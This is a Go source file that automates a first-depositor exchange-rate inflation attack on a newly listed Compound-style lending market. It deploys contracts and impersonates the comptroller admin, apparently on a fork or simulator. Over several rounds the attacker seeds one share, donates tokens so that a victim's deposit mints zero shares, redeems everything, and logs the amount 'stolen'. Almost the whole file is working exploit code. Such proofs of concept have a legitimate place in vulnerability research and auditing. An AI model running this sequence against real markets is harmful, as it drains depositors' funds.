// Package scenario drives the first-depositor inflation attack against a
// freshly listed lending market and checks every intermediate quantity.
package scenario

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"math/big"
	"time"

	"github.com/ethereum/go-ethereum/common"
	"github.com/google/uuid"
	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	"go.opentelemetry.io/otel/trace"

	"firstdeposit/chain"
	"firstdeposit/contracts"
	"firstdeposit/observability/metrics"
)

var (
	// ErrNotEnoughAccounts is returned when the node has fewer signers than
	// the deployer, victims and attacker need.
	ErrNotEnoughAccounts = errors.New("scenario: not enough accounts")
	// ErrMarketNotListed is returned when _supportMarket did not list the market.
	ErrMarketNotListed = errors.New("scenario: market not listed")
)

const tracerName = "firstdeposit/scenario"

// Actors are the accounts taking part in a run.
type Actors struct {
	Deployer common.Address
	Victims  []common.Address
	Attacker common.Address
}

// Runner executes the scenario against a backend.
type Runner struct {
	backend     chain.Backend
	artifacts   contracts.ArtifactSet
	params      Params
	logger      *slog.Logger
	metrics     *metrics.ScenarioMetrics
	tracer      trace.Tracer
	backendKind string
	runID       string
	now         func() time.Time
}

type Option func(*Runner)

func WithLogger(logger *slog.Logger) Option {
	return func(r *Runner) {
		if logger != nil {
			r.logger = logger
		}
	}
}

// WithMetrics records step outcomes and round balances. Nil disables it.
func WithMetrics(m *metrics.ScenarioMetrics) Option {
	return func(r *Runner) { r.metrics = m }
}

func WithTracer(tracer trace.Tracer) Option {
	return func(r *Runner) {
		if tracer != nil {
			r.tracer = tracer
		}
	}
}

// WithBackendKind names the backend in the report.
func WithBackendKind(kind string) Option {
	return func(r *Runner) { r.backendKind = kind }
}

func WithRunID(id string) Option {
	return func(r *Runner) {
		if id != "" {
			r.runID = id
		}
	}
}

func WithClock(now func() time.Time) Option {
	return func(r *Runner) {
		if now != nil {
			r.now = now
		}
	}
}

// New returns a runner. Artifacts must carry bytecode for an RPC backend;
// DefaultArtifacts is enough for the simulator.
func New(backend chain.Backend, artifacts contracts.ArtifactSet, params Params, opts ...Option) (*Runner, error) {
	if backend == nil {
		return nil, fmt.Errorf("scenario: backend required")
	}
	if err := params.validate(); err != nil {
		return nil, err
	}
	r := &Runner{
		backend:   backend,
		artifacts: artifacts,
		params:    params,
		logger:    slog.Default(),
		tracer:    otel.Tracer(tracerName),
		runID:     uuid.NewString(),
		now:       time.Now,
	}
	for _, opt := range opts {
		opt(r)
	}
	r.logger = r.logger.With(slog.String("component", "scenario"), slog.String("run_id", r.runID))
	return r, nil
}

// RunID identifies the run in logs, metrics and the report.
func (r *Runner) RunID() string { return r.runID }

// execution holds the state of one Run.
type execution struct {
	*Runner
	actors      Actors
	token       *contracts.Token
	market      *contracts.Market
	comptroller *contracts.Comptroller
	report      *Report
}

// Run performs the whole sequence. It stops at the first failed call or
// assertion and returns the partial report alongside the error.
func (r *Runner) Run(ctx context.Context) (*Report, error) {
	ctx, span := r.tracer.Start(ctx, "scenario.run", trace.WithAttributes(
		attribute.String("run_id", r.runID),
		attribute.Int("rounds", r.params.Rounds),
	))
	defer span.End()

	e := &execution{
		Runner:      r,
		comptroller: contracts.NewComptroller(r.params.Comptroller, r.backend),
		report: &Report{
			RunID:       r.runID,
			Backend:     r.backendKind,
			Comptroller: r.params.Comptroller.Hex(),
			StartedAt:   r.now().UTC(),
		},
	}
	err := e.run(ctx)
	e.report.FinishedAt = r.now().UTC()
	if err != nil {
		span.RecordError(err)
		span.SetStatus(codes.Error, err.Error())
		r.logger.Error("scenario failed", slog.Any("error", err))
		return e.report, err
	}
	r.logger.Info("scenario completed", slog.Int("rounds", len(e.report.Rounds)))
	return e.report, nil
}

func (e *execution) run(ctx context.Context) error {
	if err := e.step(ctx, "actors", e.resolveActors); err != nil {
		return err
	}
	if err := e.step(ctx, "provision", e.provision); err != nil {
		return err
	}
	if err := e.step(ctx, "list_market", e.listMarket); err != nil {
		return err
	}
	if err := e.step(ctx, "fund", e.fund); err != nil {
		return err
	}
	if err := e.step(ctx, "attacker_approve", e.approveAttacker); err != nil {
		return err
	}
	for k := 1; k <= e.params.Rounds; k++ {
		round := k
		if err := e.step(ctx, fmt.Sprintf("round_%d", round), func(ctx context.Context) error {
			return e.attack(ctx, round)
		}); err != nil {
			return err
		}
	}
	return nil
}

// step runs fn inside a span and records its outcome.
func (e *execution) step(ctx context.Context, name string, fn func(context.Context) error) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	ctx, span := e.tracer.Start(ctx, "scenario."+name)
	defer span.End()

	start := time.Now()
	err := fn(ctx)
	elapsed := time.Since(start)
	e.metrics.ObserveStep(name, err, elapsed)
	if err != nil {
		var assertion *AssertionError
		if errors.As(err, &assertion) {
			e.metrics.IncAssertionFailure(assertion.Quantity)
		}
		span.RecordError(err)
		span.SetStatus(codes.Error, err.Error())
		return fmt.Errorf("%s: %w", name, err)
	}
	e.logger.Debug("step completed", slog.String("step", name), slog.Duration("elapsed", elapsed))
	return nil
}

func (e *execution) resolveActors(ctx context.Context) error {
	accounts, err := e.backend.Accounts(ctx)
	if err != nil {
		return err
	}
	need := e.params.Rounds + 2
	if len(accounts) < need {
		return fmt.Errorf("%w: have %d, need %d", ErrNotEnoughAccounts, len(accounts), need)
	}
	e.actors = Actors{
		Deployer: accounts[0],
		Victims:  append([]common.Address(nil), accounts[1:e.params.Rounds+1]...),
		Attacker: accounts[e.params.Rounds+1],
	}
	return nil
}

func (e *execution) provision(ctx context.Context) error {
	deployer := e.actors.Deployer
	tokenReceipt, err := e.backend.Deploy(ctx, deployer, e.artifacts.Token.Deployment(e.params.UnderlyingDecimals))
	if err != nil {
		return fmt.Errorf("deploy %s: %w", e.artifacts.Token.ContractName, err)
	}
	e.token = contracts.NewToken(tokenReceipt.ContractAddress, e.backend)
	e.report.Token = tokenReceipt.ContractAddress.Hex()

	delegateReceipt, err := e.backend.Deploy(ctx, deployer, e.artifacts.Delegate.Deployment())
	if err != nil {
		return fmt.Errorf("deploy %s: %w", e.artifacts.Delegate.ContractName, err)
	}

	irm, err := contracts.LatestInterestRateModel(ctx, e.comptroller, e.backend)
	if err != nil {
		return fmt.Errorf("interest rate model: %w", err)
	}
	e.report.InterestRateModel = irm.Hex()

	marketReceipt, err := e.backend.Deploy(ctx, deployer, e.artifacts.Delegator.Deployment(
		tokenReceipt.ContractAddress,
		e.params.Comptroller,
		irm,
		e.params.InitialExchangeRate,
		e.params.MarketName,
		e.params.MarketSymbol,
		e.params.CTokenDecimals,
		deployer,
		delegateReceipt.ContractAddress,
		[]byte{},
	))
	if err != nil {
		return fmt.Errorf("deploy %s: %w", e.artifacts.Delegator.ContractName, err)
	}
	e.market = contracts.NewMarket(marketReceipt.ContractAddress, e.backend)
	e.report.Market = marketReceipt.ContractAddress.Hex()
	return nil
}

func (e *execution) listMarket(ctx context.Context) (err error) {
	admin, err := e.comptroller.Admin(ctx)
	if err != nil {
		return err
	}
	e.report.Admin = admin.Hex()
	if err := e.backend.Impersonate(ctx, admin); err != nil {
		return fmt.Errorf("impersonate admin %s: %w", admin.Hex(), err)
	}
	defer func() {
		// Runs after cancellation too, so a shared fork is not left impersonating.
		if stopErr := e.backend.StopImpersonating(context.WithoutCancel(ctx), admin); stopErr != nil {
			err = errors.Join(err, fmt.Errorf("stop impersonating %s: %w", admin.Hex(), stopErr))
		}
	}()
	if e.params.AdminGas != nil && e.params.AdminGas.Sign() > 0 {
		if err := e.backend.SetBalance(ctx, admin, e.params.AdminGas); err != nil {
			return fmt.Errorf("fund admin: %w", err)
		}
	}
	if err := e.comptroller.SupportMarket(ctx, admin, e.market.Address()); err != nil {
		return err
	}
	listed, err := e.comptroller.IsListed(ctx, e.market.Address())
	if err != nil {
		return err
	}
	if !listed {
		return fmt.Errorf("%w: %s", ErrMarketNotListed, e.market.Address().Hex())
	}
	e.logger.Info("CToken deployed to", slog.String("market", e.market.Address().Hex()))
	return nil
}

func (e *execution) fund(ctx context.Context) error {
	for _, victim := range e.actors.Victims {
		if err := e.token.Mint(ctx, e.actors.Deployer, victim, e.params.VictimFunding); err != nil {
			return err
		}
	}
	if err := e.token.Mint(ctx, e.actors.Deployer, e.actors.Attacker, e.params.AttackerFunding); err != nil {
		return err
	}
	shares, err := e.market.BalanceOf(ctx, e.actors.Attacker)
	if err != nil {
		return err
	}
	if err := expectEqual("fund", "attacker shares", new(big.Int), shares); err != nil {
		return err
	}
	accounts := make([]common.Address, 0, len(e.actors.Victims)+1)
	accounts = append(accounts, e.actors.Victims...)
	accounts = append(accounts, e.actors.Attacker)
	return e.snapshot(ctx, "Before Attack", accounts...)
}

func (e *execution) approveAttacker(ctx context.Context) error {
	return e.token.Approve(ctx, e.actors.Attacker, e.market.Address(), contracts.MaxUint256())
}

// attack runs round k against victim k: seed one share, donate to inflate the
// exchange rate, let the victim deposit for zero shares, redeem everything.
func (e *execution) attack(ctx context.Context, k int) error {
	victim, attacker := e.actors.Victims[k-1], e.actors.Attacker
	step := fmt.Sprintf("round %d", k)
	p := e.params

	startBalance, err := e.token.BalanceOf(ctx, attacker)
	if err != nil {
		return err
	}
	if err := e.token.Approve(ctx, victim, e.market.Address(), contracts.MaxUint256()); err != nil {
		return err
	}

	if err := e.market.Mint(ctx, attacker, p.SeedAmount); err != nil {
		return fmt.Errorf("attacker seed mint: %w", err)
	}
	if err := e.expectShares(ctx, step+" seed", attacker, p.SeedShares); err != nil {
		return err
	}
	if err := e.expectSupply(ctx, step+" seed", p.SeedShares); err != nil {
		return err
	}

	if err := e.token.Transfer(ctx, attacker, e.market.Address(), p.Donation); err != nil {
		return fmt.Errorf("attacker donation: %w", err)
	}
	cash, err := e.market.GetCash(ctx)
	if err != nil {
		return err
	}
	if err := expectEqual(step+" donation", "getCash", new(big.Int).Add(p.Donation, p.SeedAmount), cash); err != nil {
		return err
	}

	if err := e.market.Mint(ctx, victim, p.VictimDeposit); err != nil {
		return fmt.Errorf("victim deposit: %w", err)
	}
	victimShares, err := e.market.BalanceOf(ctx, victim)
	if err != nil {
		return err
	}
	if err := expectEqual(step+" victim deposit", "victim shares", new(big.Int), victimShares); err != nil {
		return err
	}
	if err := e.expectSupply(ctx, step+" victim deposit", p.SeedShares); err != nil {
		return err
	}

	if err := e.market.Redeem(ctx, attacker, p.SeedShares); err != nil {
		return fmt.Errorf("attacker redeem: %w", err)
	}
	attackerBalance, err := e.token.BalanceOf(ctx, attacker)
	if err != nil {
		return err
	}
	want := new(big.Int).Mul(p.VictimDeposit, big.NewInt(int64(k)))
	want.Add(want, p.AttackerFunding)
	if err := expectEqual(step+" redeem", "attacker balance", want, attackerBalance); err != nil {
		return err
	}
	if err := e.expectSupply(ctx, step+" redeem", new(big.Int)); err != nil {
		return err
	}

	stolen := new(big.Int).Sub(attackerBalance, startBalance)
	decimals := p.UnderlyingDecimals
	e.report.Rounds = append(e.report.Rounds, RoundResult{
		Round:           k,
		Victim:          victim.Hex(),
		VictimDeposit:   contracts.FormatUnits(p.VictimDeposit, decimals),
		VictimShares:    victimShares.String(),
		AttackerBalance: contracts.FormatUnits(attackerBalance, decimals),
		Stolen:          contracts.FormatUnits(stolen, decimals),
	})
	e.metrics.ObserveRound(k, tokenFloat(attackerBalance, decimals), tokenFloat(stolen, decimals), tokenFloat(victimShares, 0))
	e.logger.Info("round completed",
		slog.Int("round", k),
		slog.String("victim", victim.Hex()),
		slog.String("stolen", contracts.FormatUnits(stolen, decimals)),
	)
	return e.snapshot(ctx, afterLabel(k), victim, attacker)
}

func (e *execution) expectShares(ctx context.Context, step string, owner common.Address, want *big.Int) error {
	got, err := e.market.BalanceOf(ctx, owner)
	if err != nil {
		return err
	}
	return expectEqual(step, "attacker shares", want, got)
}

func (e *execution) expectSupply(ctx context.Context, step string, want *big.Int) error {
	got, err := e.market.TotalSupply(ctx)
	if err != nil {
		return err
	}
	return expectEqual(step, "totalSupply", want, got)
}

func (e *execution) snapshot(ctx context.Context, label string, accounts ...common.Address) error {
	snap := Snapshot{Label: label}
	for _, account := range accounts {
		balance, err := e.token.BalanceOf(ctx, account)
		if err != nil {
			return err
		}
		snap.Balances = append(snap.Balances, Balance{
			Account: e.accountName(account),
			Address: account.Hex(),
			Amount:  contracts.FormatUnits(balance, e.params.UnderlyingDecimals),
			Raw:     balance.String(),
		})
	}
	e.report.Snapshots = append(e.report.Snapshots, snap)
	return nil
}

func (e *execution) accountName(account common.Address) string {
	if account == e.actors.Attacker {
		return "Attacker's"
	}
	for i, victim := range e.actors.Victims {
		if victim == account {
			return fmt.Sprintf("User%d", i+1)
		}
	}
	return account.Hex()
}

var ordinals = []string{"First", "Second", "Third", "Fourth", "Fifth", "Sixth", "Seventh", "Eighth", "Ninth", "Tenth"}

func afterLabel(k int) string {
	if k >= 1 && k <= len(ordinals) {
		return fmt.Sprintf("After %s Attack", ordinals[k-1])
	}
	return fmt.Sprintf("After Attack %d", k)
}

func tokenFloat(v *big.Int, decimals uint8) float64 {
	f, _ := new(big.Float).Quo(new(big.Float).SetInt(v), new(big.Float).SetInt(new(big.Int).Exp(big.NewInt(10), big.NewInt(int64(decimals)), nil))).Float64()
	return f
}
